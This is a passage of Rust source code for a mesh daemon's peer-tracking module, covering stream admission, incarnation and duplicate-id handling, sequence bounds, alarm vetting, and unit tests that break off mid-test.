//! What this node holds of its peers: for each one the report its streams
//! built up (a full report, then updates), which paths its streams arrive
//! on and when each last spoke, and whether something is off about it (a
//! restart, a second daemon claiming its id). Receipt times are this node's
//! monotonic clock: freshness never depends on another node's clock.
//!
//! The gRPC intake hands every stream's open and updates to this book,
//! under a short lock, and sends back what it answers; the aggregator reads
//! [`PeerBook::views`] when it evaluates.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::sync::Arc;
use std::time::{Duration, Instant, SystemTime};

use meshd_domain::facts::NodeFacts;
use meshd_domain::{
    AlarmKind, ClockSample, Incarnation, NodeId, NodeIdentity, PeerReport, Protocols, Refusal,
    RejectReason, ReportUpdate, StreamOpen,
};

use self::report::{apply, check_update};
use crate::lateness::LATE;
use crate::link::EndClass;
use crate::link_rules::LinkRules;

mod report;

/// An incarnation more than this far ahead of this node's wall clock (as
/// nanoseconds since 1970) is refused: a sane clock or counter cannot give
/// it, and taking it would lock the real node out until it caught up.
pub const MAX_INCARNATION_AHEAD: Duration = Duration::from_secs(24 * 3600);

/// A reply carries a clock sample this often per stream.
pub const CLOCK_SAMPLE_EVERY: Duration = Duration::from_secs(5);

/// A second daemon claiming a node's id is remembered this long after it
/// was last seen.
pub const DUPLICATE_MEMORY: Duration = Duration::from_secs(30);

/// How a stream reached this node: on the management network, or over
/// one of this node's cables (named by this node's end: its interface, or
/// its address where the interface is not configured).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Path {
    Management,
    Cable(String),
}

impl fmt::Display for Path {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Path::Management => f.write_str("management"),
            Path::Cable(end) => write!(f, "cable {end}"),
        }
    }
}

/// One stream, as the book knows it.
pub type StreamId = u64;

/// Everything a look takes from the book.
#[derive(Debug, Clone, Default)]
pub struct BookSnapshot {
    /// Every peer heard since this node started or its membership changed.
    pub views: BTreeMap<NodeId, PeerView>,
    /// The members' latest facts...
    pub facts: BTreeMap<NodeId, Arc<NodeFacts>>,
    /// ...and their version, which changes with them.
    pub facts_version: u64,
    /// Refused peer streams and updates since start, by reason.
    pub rejected: BTreeMap<RejectReason, u64>,
    /// Members refused for their peer protocol, while they keep trying.
    pub refused_releases: Vec<RefusedRelease>,
}

/// A member whose streams this node refuses for their peer protocol (a
/// mesh upgraded past it, or a node upgraded past the mesh), so the status
/// can say which node to upgrade instead of only that quorum is lost.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RefusedRelease {
    pub node: NodeId,
    /// Its meshd release, as its stream said.
    pub version: String,
    /// Why, naming the side to upgrade.
    pub why: String,
    /// Whether it is the one behind (it must be upgraded), not this node.
    pub older: bool,
}

/// How long a protocol refusal is remembered after the member's last try:
/// a refused member redials every few seconds, so a refusal older than
/// this one is of a member that was upgraded, stopped or removed.
const REFUSED_RELEASE_MEMORY: Duration = Duration::from_secs(30);

/// One path to a peer and whether it is up: its stream is open and spoke
/// within `report.stale_after` (the verdicts' own rule for a fresh path).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PathLiveness {
    pub peer: NodeId,
    pub path: Path,
    pub up: bool,
}

#[derive(Debug, Clone)]
struct Stream {
    node: NodeId,
    path: Path,
    instance: u64,
    /// Where it came from, for the duplicate-id alarm.
    remote: String,
    last_message: Instant,
    last_clock_sample: Option<Instant>,
    /// A newer incarnation of its node opened since, after the last update
    /// this node applied from it (its sequence): what arrives on it is
    /// refused, and an update newer than that means a second daemon claims
    /// the node's id. An older one is a copy the network held back (a
    /// stream over a pulled cable delivers what it buffered once the cable
    /// is back), not a second daemon.
    superseded_after: Option<u64>,
}

/// When a path of a peer last spoke, and when its last stream closed
/// (`None` while one is open).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PathState {
    pub last_message: Instant,
    pub closed_at: Option<Instant>,
}

impl PathState {
    pub fn is_open(&self) -> bool {
        self.closed_at.is_none()
    }
}

/// Two live daemons claim one node id.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Duplicate {
    /// Where each claimant's streams come from.
    pub remotes: Vec<String>,
    pub last_seen: Instant,
}

#[derive(Debug, Clone)]
struct Peer {
    instance: u64,
    report: Arc<PeerReport>,
    /// The last message of any of its streams.
    received_at: Instant,
    /// When this incarnation was first heard.
    since: Instant,
    paths: BTreeMap<Path, PathState>,
    /// When each of its links' observations arrived, by far end.
    links_received: BTreeMap<NodeId, Instant>,
    duplicate: Option<Duplicate>,
    /// When its report's sequence last moved: how far a later update may
    /// move it (see `sequence_bound`).
    sequence_at: Instant,
}

/// A sender counts one sequence number per update it makes, and it makes
/// at most one per look (every 5 ms at the most): this many a second is
/// more than any sender counts.
const MAX_SEQUENCES_PER_SECOND: u64 = 1_000;

/// The highest sequence an update may carry: what the sender can have
/// counted since its sequence last moved here (or, for its first update,
/// since its incarnation began, with the day of clock difference an
/// incarnation may be ahead), and a few seconds' slack. A stolen key can
/// then not push a node's sequence out of reach of its real updates.
fn sequence_bound(
    current: u64,
    moved_at: Instant,
    incarnation: Incarnation,
    now: Instant,
    wall: SystemTime,
) -> u64 {
    let per_second = |d: Duration| {
        d.as_secs()
            .saturating_add(2)
            .saturating_mul(MAX_SEQUENCES_PER_SECOND)
    };
    if current == 0 {
        let running = Duration::from_nanos(wall_nanos(wall).saturating_sub(incarnation.0));
        per_second(running.saturating_add(MAX_INCARNATION_AHEAD))
    } else {
        current.saturating_add(per_second(now.saturating_duration_since(moved_at)))
    }
}

/// What the book does with an update on a live stream.
enum Admission {
    Apply,
    /// Already applied (from another path), or from a peer no longer held.
    Ignore,
    /// An update in between is missing: the sender must send its full
    /// report.
    Resync,
    /// Refused, not yet counted.
    Refuse(Refusal),
}

/// What the engine reads of one peer.
#[derive(Debug, Clone, PartialEq)]
pub struct PeerView {
    pub report: Arc<PeerReport>,
    /// The last message on any path.
    pub received_at: Instant,
    /// When this incarnation was first heard: its links start afresh then.
    pub since: Instant,
    pub paths: BTreeMap<Path, PathState>,
    /// When each of its links' observations arrived, by far end: the
    /// observation's silence is as of then.
    pub links_received: BTreeMap<NodeId, Instant>,
    pub duplicate: Option<Duplicate>,
}

impl PeerView {
    /// When its last open stream closed, once none is open.
    pub fn closed_at(&self) -> Option<Instant> {
        if self.paths.values().any(PathState::is_open) {
            return None;
        }
        self.paths.values().filter_map(|p| p.closed_at).max()
    }
}

/// What the intake answers an update with, when it answers at all.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Answer {
    pub refusal: Option<Refusal>,
    pub clock: Option<ClockSample>,
    pub resync: bool,
    /// Alarms dropped from an update that otherwise stands, each with why
    /// (see `PeerBook::drop_unvouched_alarms`).
    pub dropped: Vec<String>,
}

/// What the book takes from the config.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct BookSettings {
    /// A peer silent this long that speaks again bumps the generation: the
    /// engine must look at once.
    pub quiet_after: Duration,
    /// A peer's link observation is news only when it changes what these
    /// rules make of it (see [`is_news`]).
    pub rules: LinkRules,
    /// How long a `node_rebooted` or `kernel_panic` alarm stays raised: a
    /// peer's such alarm about a member is taken only this long (and
    /// `boot::FACTS_GRACE` more) after this node saw that member's run
    /// change itself.
    pub boot_alarm_for: Duration,
}

#[derive(Debug)]
pub struct PeerBook {
    local: NodeId,
    members: BTreeSet<NodeId>,
    settings: BookSettings,
    peers: BTreeMap<NodeId, Peer>,
    streams: BTreeMap<StreamId, Stream>,
    next_stream: StreamId,
    rejected: BTreeMap<RejectReason, u64>,
    facts: BTreeMap<NodeId, Arc<NodeFacts>>,
    /// Bumped whenever `facts` changes, so readers redo the cable map and
    /// checks only then.
    facts_version: u64,
    /// Bumped whenever something the engine judges changed.
    generation: u64,
    /// When this node last saw each member's run change (a stream of a
    /// new incarnation after one of an older; for itself, its first peer):
    /// what a peer's reboot or panic alarm about it must match.
    run_changed_at: BTreeMap<NodeId, Instant>,
    /// Members refused for their peer protocol, with their last try.
    refused_releases: BTreeMap<NodeId, (RefusedRelease, Instant)>,
}

fn refusal(reason: RejectReason, detail: impl Into<String>) -> Refusal {
    Refusal {
        reason,
        detail: detail.into(),
        known_incarnation: None,
    }
}

fn wall_nanos(wall: SystemTime) -> u64 {
    wall.duration_since(SystemTime::UNIX_EPOCH)
        .map(|d| u64::try_from(d.as_nanos()).unwrap_or(u64::MAX))
        .unwrap_or(0)
}

impl PeerBook {
    pub fn new(local: NodeId, members: BTreeSet<NodeId>, settings: BookSettings) -> Self {
        Self {
            local,
            members,
            settings,
            peers: BTreeMap::new(),
            streams: BTreeMap::new(),
            next_stream: 1,
            rejected: BTreeMap::new(),
            facts: BTreeMap::new(),
            facts_version: 0,
            generation: 0,
            run_changed_at: BTreeMap::new(),
            refused_releases: BTreeMap::new(),
        }
    }

    /// Applies a new membership; what departed members sent is dropped and
    /// their streams are refused from now on.
    pub fn set_members(&mut self, members: BTreeSet<NodeId>, settings: BookSettings) {
        self.peers.retain(|id, _| members.contains(id));
        self.streams.retain(|_, s| members.contains(&s.node));
        self.run_changed_at.retain(|id, _| members.contains(id));
        self.refused_releases.retain(|id, _| members.contains(id));
        let before = self.facts.len();
        self.facts.retain(|id, _| members.contains(id));
        if self.facts.len() != before {
            self.facts_version += 1;
        }
        self.members = members;
        self.settings = settings;
        self.generation += 1;
    }

    fn refuse(&mut self, refusal: Refusal) -> Refusal {
        *self.rejected.entry(refusal.reason).or_default() += 1;
        refusal
    }

    /// Counts a message that could not even be decoded.
    pub fn count_malformed(&mut self) {
        *self.rejected.entry(RejectReason::Malformed).or_default() += 1;
    }

    /// Counts a message refused before it reached the book (too large,
    /// too fast).
    pub fn count_refused(&mut self, reason: RejectReason) {
        *self.rejected.entry(reason).or_default() += 1;
    }

    /// A stream opens. `authenticated` is the node its client certificate
    /// names (`None` only on a mesh configured without TLS); `remote` is
    /// where it comes from.
    pub fn open(
        &mut self,
        authenticated: Option<&NodeId>,
        open: &StreamOpen,
        path: Path,
        remote: String,
        now: Instant,
        wall: SystemTime,
    ) -> Result<StreamId, Refusal> {
        if let Err(refused) = self.check_sender(authenticated, &open.sender, wall) {
            return Err(self.refuse(refused));
        }
        if let Some(why) = Protocols::THIS_RELEASE.mismatch(open.protocols) {
            let detail = format!("{} (meshd {}): {why}", open.sender.id, open.sender.version);
            let refused = RefusedRelease {
                node: open.sender.id.clone(),
                version: open.sender.version.clone(),
                why,
                older: Protocols::THIS_RELEASE.is_ahead_of(open.protocols),
            };
            let known = self.refused_releases.get(&refused.node).map(|(r, _)| r);
            if known != Some(&refused) {
                self.generation += 1;
            }
            self.refused_releases
                .insert(refused.node.clone(), (refused, now));
            return Err(self.refuse(refusal(RejectReason::Protocol, detail)));
        }
        if self.refused_releases.remove(&open.sender.id).is_some() {
            self.generation += 1;
        }
        if let Some(refused) = self.stale_incarnation(open, &remote, now) {
            return Err(self.refuse(refused));
        }
        self.start_incarnation(open, now);
        let sender = &open.sender.id;
        let id = self.add_stream(sender, &path, open.instance, remote, now);
        self.heard(sender, &path, now);
        Ok(id)
    }

    /// Whether `sender` may open a stream at all: its certificate (if any)
    /// names it, it is a member other than this node, and its incarnation
    /// is not further ahead than a sane clock gives.
    fn check_sender(
        &self,
        authenticated: Option<&NodeId>,
        sender: &NodeIdentity,
        wall: SystemTime,
    ) -> Result<(), Refusal> {
        if let Some(cert) = authenticated
            && *cert != sender.id
        {
            return Err(refusal(
                RejectReason::NotAuthenticated,
                format!(
                    "the certificate is {cert}'s, the stream claims {}",
                    sender.id
                ),
            ));
        }
        if sender.id == self.local || !self.members.contains(&sender.id) {
            return Err(refusal(
                RejectReason::UnknownNode,
                format!("{} is not a member of this mesh", sender.id),
            ));
        }
        let ahead = wall_nanos(wall)
            .saturating_add(u64::try_from(MAX_INCARNATION_AHEAD.as_nanos()).unwrap_or(u64::MAX));
        if sender.incarnation.0 > ahead {
            return Err(refusal(
                RejectReason::IncarnationAhead,
                format!(
                    "incarnation {} is more than a day ahead of this node's clock",
                    sender.incarnation.0
                ),
            ));
        }
        Ok(())
    }

    /// The refusal of a stream from an older incarnation than the one
    /// heard, or from another instance of the same one.
    fn stale_incarnation(
        &mut self,
        open: &StreamOpen,
        remote: &str,
        now: Instant,
    ) -> Option<Refusal> {
        let sender = &open.sender;
        let known = self.peers.get(&sender.id)?;
        let current = known.report.sender.incarnation;
        let stale = sender.incarnation < current
            || (sender.incarnation == current && known.instance != open.instance);
        if !stale {
            return None;
        }
        // A node restarted after its clock stepped back is refused until it
        // takes a larger incarnation; but while the current one is alive
        // too, two daemons claim the id.
        let current_instance = known.instance;
        if self
            .live_instances(&sender.id, now)
            .contains(&current_instance)
        {
            self.note_duplicate(&sender.id, current_instance, remote, now);
        }
        let mut refused = refusal(
            RejectReason::OldIncarnation,
            format!(
                "incarnation {} is not newer than {} already heard from {}",
                sender.incarnation.0, current.0, sender.id
            ),
        );
        refused.known_incarnation = Some(current);
        Some(refused)
    }

    /// A stream of an incarnation not heard before: the peer starts afresh
    /// (keeping only a duplicate claim on its id).
    fn start_incarnation(&mut self, open: &StreamOpen, now: Instant) {
        let sender = &open.sender;
        let restarted = self
            .peers
            .get(&sender.id)
            .is_none_or(|p| p.report.sender.incarnation != sender.incarnation);
        if !restarted {
            return;
        }
        if self.peers.contains_key(&sender.id) {
            self.run_changed_at.insert(sender.id.clone(), now);
        }
        // This node's own run is new as of its first peer: what its peers
        // saw of its reboot is about a run change it lived through.
        self.run_changed_at.entry(self.local.clone()).or_insert(now);
        let duplicate = self.peers.get(&sender.id).and_then(|p| p.duplicate.clone());
        let last_sequence = self.peers.get(&sender.id).map_or(0, |p| p.report.sequence);
        // What arrives on streams of the superseded incarnation is refused
        // from now on.
        for stream in self.streams.values_mut().filter(|s| s.node == sender.id) {
            stream.superseded_after.get_or_insert(last_sequence);
        }
        self.peers.insert(
            sender.id.clone(),
            Peer {
                instance: open.instance,
                report: Arc::new(PeerReport::empty(sender.clone())),
                received_at: now,
                since: now,
                paths: BTreeMap::new(),
                links_received: BTreeMap::new(),
                duplicate,
                sequence_at: now,
            },
        );
        self.generation += 1;
    }

    fn add_stream(
        &mut self,
        node: &NodeId,
        path: &Path,
        instance: u64,
        remote: String,
        now: Instant,
    ) -> StreamId {
        let id = self.next_stream;
        self.next_stream += 1;
        self.streams.insert(
            id,
            Stream {
                node: node.clone(),
                path: path.clone(),
                instance,
                remote,
                last_message: now,
                last_clock_sample: None,
                superseded_after: None,
            },
        );
        id
    }

    fn live_instances(&self, node: &NodeId, now: Instant) -> BTreeSet<u64> {
        self.streams
            .values()
            .filter(|s| {
                s.node == *node
                    && s.superseded_after.is_none()
                    && now.saturating_duration_since(s.last_message) < DUPLICATE_MEMORY
            })
            .map(|s| s.instance)
            .collect()
    }

    fn note_duplicate(&mut self, node: &NodeId, live: u64, remote: &str, now: Instant) {
        let mut remotes: BTreeSet<String> = self
            .streams
            .values()
            .filter(|s| s.node == *node && s.instance == live && s.superseded_after.is_none())
            .map(|s| s.remote.clone())
            .collect();
        remotes.insert(remote.to_owned());
        if let Some(peer) = self.peers.get_mut(node) {
            if peer.duplicate.is_none() {
                self.generation += 1;
            }
            peer.duplicate = Some(Duplicate {
                remotes: remotes.into_iter().collect(),
                last_seen: now,
            });
        }
    }

    /// A message arrived on `path` from `node`: its liveness.
    fn heard(&mut self, node: &NodeId, path: &Path, now: Instant) {
        let Some(peer) = self.peers.get_mut(node) else {
            return;
        };
        let was_quiet =
            now.saturating_duration_since(peer.received_at) >= self.settings.quiet_after;
        let path_was_quiet = peer.paths.get(path).is_none_or(|p| {
            !p.is_open()
                || now.saturating_duration_since(p.last_message) >= self.settings.quiet_after
        });
        peer.received_at = now;
        peer.paths.insert(
            path.clone(),
            PathState {
                last_message: now,
                closed_at: None,
            },
        );
        if was_quiet || path_was_quiet {
            self.generation += 1;
        }
    }

    /// An update on stream `id`. Refused when the stream is unknown (closed,
    /// or superseded by a newer incarnation of its node).
    pub fn update(
        &mut self,
        id: StreamId,
        update: ReportUpdate,
        now: Instant,
        wall: SystemTime,
    ) -> Answer {
        let (node, clock_due) = match self.stream_spoke(id, update.sequence, now) {
            Ok(spoke) => spoke,
            Err(refused) => {
                return Answer {
                    refusal: Some(refused),
                    clock: None,
                    resync: false,
                    dropped: Vec::new(),
                };
            }
        };
        let clock = clock_due.then_some(ClockSample {
            echoed: update.sent_at,
            received: wall,
            replied: wall,
        });
        let mut dropped = Vec::new();
        let (refusal, resync) = match self.admit(&node, &update, now, wall) {
            Admission::Apply => {
                let mut update = update;
                dropped = self.drop_unvouched_alarms(&node, &mut update, now);
                let count = u64::try_from(dropped.len()).unwrap_or(u64::MAX);
                *self.rejected.entry(RejectReason::ForeignAlarm).or_default() += count;
                self.apply_update(node, update, now);
                (None, false)
            }
            Admission::Ignore => (None, false),
            Admission::Resync => (None, true),
            Admission::Refuse(refused) => (Some(self.refuse(refused)), false),
        };
        Answer {
            refusal,
            clock,
            resync,
            dropped,
        }
    }

    /// A message arrived on stream `id`: the stream and its node's path
    /// spoke now. Returns the node, and whether the answer is due a clock
    /// sample; refused (and counted) when the stream is closed or
    /// superseded.
    fn stream_spoke(
        &mut self,
        id: StreamId,
        sequence: u64,
        now: Instant,
    ) -> Result<(NodeId, bool), Refusal> {
        let Some(stream) = self
            .streams
            .get_mut(&id)
            .filter(|s| s.superseded_after.is_none())
        else {
            return Err(self.refuse_superseded(id, sequence, now));
        };
        stream.last_message = now;
        let clock_due = stream
            .last_clock_sample
            .is_none_or(|at| now.saturating_duration_since(at) >= CLOCK_SAMPLE_EVERY);
        if clock_due {
            stream.last_clock_sample = Some(now);
        }
        let (node, path) = (stream.node.clone(), stream.path.clone());
        self.heard(&node, &path, now);
        Ok((node, clock_due))
    }

    /// The refusal of update `sequence` on stream `id`, closed or
    /// superseded. A superseded stream that still says something new is a
    /// second daemon claiming its node's id.
    fn refuse_superseded(&mut self, id: StreamId, sequence: u64, now: Instant) -> Refusal {
        if let Some(stream) = self
            .streams
            .get(&id)
            .filter(|s| s.superseded_after.is_some_and(|last| sequence > last))
        {
            let (node, remote) = (stream.node.clone(), stream.remote.clone());
            if let Some(current) = self.peers.get(&node).map(|p| p.instance) {
                self.note_duplicate(&node, current, &remote, now);
            }
        }
        let known = self
            .streams
            .get(&id)
            .and_then(|s| self.peers.get(&s.node))
            .map(|p| p.report.sender.incarnation);
        let mut refused = refusal(
            RejectReason::OldIncarnation,
            "a newer incarnation of this node is heard; this stream is superseded",
        );
        refused.known_incarnation = known;
        self.refuse(refused)
    }

    /// What to do with `update` from `node`, by its sequence and what it
    /// says.
    fn admit(
        &self,
        node: &NodeId,
        update: &ReportUpdate,
        now: Instant,
        wall: SystemTime,
    ) -> Admission {
        let Some(peer) = self.peers.get(node) else {
            return Admission::Ignore;
        };
        let current = peer.report.sequence;
        if update.sequence <= current {
            // Already applied from another path.
            return Admission::Ignore;
        }
        let bound = sequence_bound(
            current,
            peer.sequence_at,
            peer.report.sender.incarnation,
            now,
            wall,
        );
        if update.sequence > bound {
            return Admission::Refuse(refusal(
                RejectReason::OverLimit,
                format!(
                    "sequence {} is beyond {bound}, more than a sender can have counted",
                    update.sequence
                ),
            ));
        }
        if !update.full && update.sequence != current + 1 {
            return Admission::Resync;
        }
        match check_update(node, update) {
            Ok(()) => Admission::Apply,
            Err((reason, problem)) => Admission::Refuse(refusal(reason, problem)),
        }
    }

    /// Drops from `update` the alarms about other nodes this node cannot
    /// vouch for: any about a non-member, and a `node_rebooted` or
    /// `kernel_panic` about a member whose run this node did not see change
    /// lately (one stolen key could otherwise page a panic of anyone). The rest of the update stands: an
    /// honest peer that saw a reboot first loses nothing but that alarm,
    /// which this node raises itself once it sees the reboot too. Returns
    /// what was dropped, and why.
    fn drop_unvouched_alarms(
        &self,
        sender: &NodeId,
        update: &mut ReportUpdate,
        now: Instant,
    ) -> Vec<String> {
        let vouch_for = self
            .settings
            .boot_alarm_for
            .saturating_add(crate::boot::FACTS_GRACE);
        let unvouched = |kind: AlarmKind, node: &NodeId| {
            if !self.members.contains(node) {
                Some("which is not a member")
            } else if kind.about_a_boot()
                && self
                    .run_changed_at
                    .get(node)
                    .is_none_or(|at| now.saturating_duration_since(*at) > vouch_for)
            {
                Some("whose restart this node did not see")
            } else {
                None
            }
        };
        let Some(alarms) = update.alarms.as_mut() else {
            return Vec::new();
        };
        let mut dropped = Vec::new();
        let mut index = 0;
        alarms.retain(|a| {
            let why = a
                .kind
                .raised_by_peers()
                .then(|| unvouched(a.kind, &a.node))
                .flatten();
            if let Some(why) = why {
                dropped.push(format!(
                    "alarms[{index}]: {sender} raises {} about {}, {why}",
                    a.kind, a.node
                ));
            }
            index += 1;
            why.is_none()
        });
        dropped
    }

    /// Applies an admitted `update` to `node`'s report, keeping its facts
    /// apart; bumps the generation when the engine must look again.
    fn apply_update(&mut self, node: NodeId, update: ReportUpdate, now: Instant) {
        let Some(peer) = self.peers.get_mut(&node) else {
            return;
        };
        if update.full {
            peer.links_received.clear();
        }
        for link in &update.links {
            peer.links_received.insert(link.remote.node.clone(), now);
        }
        for gone in &update.removed_links {
            peer.links_received.remove(&gone.node);
        }
        peer.sequence_at = now;
        let news = is_news(&peer.report, &update, &self.settings.rules);
        let facts = apply(Arc::make_mut(&mut peer.report), update);
        if let Some(facts) = facts
            && self.facts.get(&node).is_none_or(|known| **known != facts)
        {
            self.facts.insert(node, Arc::new(facts));
            self.facts_version += 1;
        }
        if news {
            self.generation += 1;
        }
    }

    /// Stream `id` ended at `now` (the peer closed it, the connection
    /// broke, or it was refused).
    pub fn close(&mut self, id: StreamId, now: Instant) {
        let Some(stream) = self.streams.remove(&id) else {
            return;
        };
        let still_open = self.streams.values().any(|s| {
            s.node == stream.node && s.path == stream.path && s.superseded_after.is_none()
        });
        if !still_open
            && let Some(path) = self
                .peers
                .get_mut(&stream.node)
                .and_then(|p| p.paths.get_mut(&stream.path))
        {
            path.closed_at = Some(now);
            self.generation += 1;
        }
    }

    /// Every peer heard since this node started (or its membership last
    /// changed), as the engine reads them.
    pub fn views(&self, now: Instant) -> BTreeMap<NodeId, PeerView> {
        self.peers
            .iter()
            .map(|(id, p)| {
                let duplicate = p
                    .duplicate
                    .clone()
                    .filter(|d| now.saturating_duration_since(d.last_seen) < DUPLICATE_MEMORY);
                (
                    id.clone(),
                    PeerView {
                        report: p.report.clone(),
                        received_at: p.received_at,
                        since: p.since,
                        paths: p.paths.clone(),
                        links_received: p.links_received.clone(),
                        duplicate,
                    },
                )
            })
            .collect()
    }

    /// What a look takes from the book, in one go under its lock.
    pub fn snapshot(&self, now: Instant) -> BookSnapshot {
        BookSnapshot {
            views: self.views(now),
            facts: self.facts.clone(),
            facts_version: self.facts_version,
            rejected: self.rejected.clone(),
            refused_releases: self
                .refused_releases
                .values()
                .filter(|(_, at)| now.saturating_duration_since(*at) < REFUSED_RELEASE_MEMORY)
                .map(|(refused, _)| refused.clone())
                .collect(),
        }
    }

    /// The last report of `peer`, if it is heard now: one of its paths is
    /// open and carried a message within `within`.
    pub fn current_report(
        &self,
        peer: &NodeId,
        now: Instant,
        within: Duration,
    ) -> Option<Arc<PeerReport>> {
        let p = self.peers.get(peer)?;
        p.paths
            .values()
            .any(|path| path.is_open() && now.saturating_duration_since(path.last_message) < within)
            .then(|| p.report.clone())
    }

    pub fn rejected(&self) -> &BTreeMap<RejectReason, u64> {
        &self.rejected
    }

    /// The members' latest facts and their version.
    pub fn facts(&self) -> (&BTreeMap<NodeId, Arc<NodeFacts>>, u64) {
        (&self.facts, self.facts_version)
    }

    /// Changes whenever something the engine judges changed.
    pub fn generation(&self) -> u64 {
        self.generation
    }
}

/// Whether `update` changes what the engine judges `report` on. A
/// heartbeat does not: what it proves (the peer lives, on that path) is
/// kept by [`PeerBook::heard`], which bumps the generation when a quiet
/// peer or path speaks again; the engine's own deadlines cover the rest.
/// Nor does a link's periodic refresh of its figures while its
/// [`EndClass`] stays the same: the sender sends a change of class at
/// once, and the figures alone are shown, not judged, so the next look
/// (a deadline, at most a heartbeat away) shows them. Heartbeats and
/// refreshes were three looks in four on a steady mesh.
fn is_news(report: &PeerReport, update: &ReportUpdate, rules: &LinkRules) -> bool {
    update.full
        || update.carries_changes_besides_links()
        || update.links.iter().any(|link| {
            report
                .links
                .iter()
                .find(|known| known.remote.node == link.remote.node)
                .is_none_or(|known| EndClass::of(known, rules) != EndClass::of(link, rules))
        })
        || update.load.cpu_saturated != report.load.cpu_saturated
        || (update.lateness.worst >= LATE) != (report.lateness.worst >= LATE)
}

#[cfg(test)]
mod tests {
    use meshd_domain::fixtures::id;
    use meshd_domain::{
        Alarm, AlarmKind, LinkEnd, LinkObservation, NodeIdentity, NodeLoad, Severity,
    };

    use super::*;
    use crate::fixtures::{link_rules, moment, stalled_once};
    use crate::time::Moment;

    fn update(sequence: u64, full: bool, sent_at: SystemTime) -> ReportUpdate {
        ReportUpdate {
            sequence,
            sent_at,
            lateness: meshd_domain::Lateness::default(),
            full,
            links: Vec::new(),
            removed_links: Vec::new(),
            alarms: None,
            hears: None,
            heard_on_management: None,
            load: NodeLoad::default(),
            facts: None,
            has_quorum: None,
            leader: None,
            clock_offsets: None,
            jobs: None,
        }
    }

    fn settings() -> BookSettings {
        BookSettings {
            quiet_after: Duration::from_secs(3),
            rules: link_rules(),
            boot_alarm_for: Duration::from_secs(15 * 60),
        }
    }

    /// b's updates on one stream, one after another.
    struct Updates {
        stream: StreamId,
        at: Instant,
        sequence: u64,
        wall: SystemTime,
    }

    impl Updates {
        /// Whether b's next update, `gap` after the last and made by
        /// `change` from a heartbeat, makes the engine look.
        fn news(
            &mut self,
            book: &mut PeerBook,
            gap: Duration,
            change: impl FnOnce(&mut ReportUpdate),
        ) -> bool {
            self.at += gap;
            self.sequence += 1;
            let mut next = update(self.sequence, false, self.wall);
            change(&mut next);
            let before = book.generation();
            let answer = book.update(self.stream, next, self.at, self.wall);
            assert_eq!(answer.refusal, None);
            book.generation() != before
        }
    }

    /// A book that holds b's full report (sequence 10), and b's updates
    /// that follow it.
    fn b_after_a_full_report() -> (PeerBook, Updates) {
        let Moment { now: t0, wall } = moment(0);
        let (mut book, stream) = book_with_b(t0, wall);
        book.update(stream, update(10, true, wall), t0, wall);
        (
            book,
            Updates {
                stream,
                at: t0,
                sequence: 10,
                wall,
            },
        )
    }

    /// b's stream on the management path, opened at `t0`.
    fn book_with_b(t0: Instant, wall: SystemTime) -> (PeerBook, StreamId) {
        let mut book = PeerBook::new(id("a"), [id("a"), id("b")].into(), settings());
        let stream = open_run(&mut book, "b", wall - Duration::from_secs(60), t0, wall);
        (book, stream)
    }

    /// A stream of `node`'s run that started at `started`, on the
    /// management path, opened at `t0`.
    fn open_run(
        book: &mut PeerBook,
        node: &str,
        started: SystemTime,
        t0: Instant,
        wall: SystemTime,
    ) -> StreamId {
        let open = StreamOpen {
            sender: NodeIdentity {
                id: id(node),
                incarnation: Incarnation(wall_nanos(started)),
                version: "test".into(),
                hostname: node.into(),
            },
            instance: 7,
            rtt_bounds: Vec::new(),
            protocols: Protocols::THIS_RELEASE,
        };
        book.open(
            Some(&id(node)),
            &open,
            Path::Management,
            node.into(),
            t0,
            wall,
        )
        .expect("opens")
    }

    /// A stream whose peer protocols do not overlap this release's is
    /// refused by name, saying which side to upgrade; an old release's
    /// (protocol 0) opens.
    #[test]
    fn a_stream_of_a_protocol_this_release_cannot_speak_is_refused_by_name() {
        let Moment { now: t0, wall } = moment(0);
        let mut book = PeerBook::new(id("a"), [id("a"), id("b")].into(), settings());
        let open = |protocols| StreamOpen {
            sender: NodeIdentity {
                id: id("b"),
                incarnation: Incarnation(wall_nanos(wall - Duration::from_secs(60))),
                version: "9.0.0".into(),
                hostname: "b".into(),
            },
            instance: 7,
            rtt_bounds: Vec::new(),
            protocols,
        };
        let too_new = Protocols {
            spoken: Protocols::THIS_RELEASE.spoken + 2,
            oldest: Protocols::THIS_RELEASE.spoken + 1,
        };
        let refused = book
            .open(
                Some(&id("b")),
                &open(too_new),
                Path::Management,
                "b".into(),
                t0,
                wall,
            )
            .expect_err("no common protocol");
        assert_eq!(refused.reason, RejectReason::Protocol);
        assert!(
            refused
                .detail
                .starts_with("b (meshd 9.0.0): it understands peer protocol")
                && refused.detail.ends_with("upgrade this node"),
            "{refused:?}"
        );
        // The refusal stays in the status while b keeps trying, and goes
        // once b has stopped trying for a while...
        let refused_now = |book: &PeerBook, at: Instant| book.snapshot(at).refused_releases;
        assert_eq!(
            refused_now(&book, t0 + Duration::from_secs(5)),
            [RefusedRelease {
                node: id("b"),
                version: "9.0.0".into(),
                why: refused.detail["b (meshd 9.0.0): ".len()..].to_owned(),
                older: false,
            }]
        );
        assert!(refused_now(&book, t0 + REFUSED_RELEASE_MEMORY).is_empty());
        let old = Protocols {
            spoken: 0,
            oldest: 0,
        };
        assert!(
            book.open(
                Some(&id("b")),
                &open(old),
                Path::Management,
                "b".into(),
                t0,
                wall
            )
            .is_ok(),
            "the release before versions were sent"
        );
        // ...or at once when a stream it can speak opens.
        assert!(refused_now(&book, t0).is_empty());
    }

    /// A peer's `kernel_panic` about another node is taken only about a
    /// member whose run this node saw change; the rest of its update
    /// stands, and the dropped alarms are counted.
    #[test]
    fn a_peers_panic_alarm_is_taken_only_about_a_member_seen_restarting() {
        let Moment { now: t0, wall } = moment(0);
        let mut book = PeerBook::new(id("a"), [id("a"), id("b"), id("c")].into(), settings());
        let b = open_run(&mut book, "b", wall - Duration::from_secs(60), t0, wall);
        let panic_of = |node: &str| Alarm {
            kind: AlarmKind::KernelPanic,
            severity: Severity::Critical,
            node: id(node),
            subject: "boot".into(),
            summary: format!("{node} rebooted after a kernel panic"),
            evidence: Vec::new(),
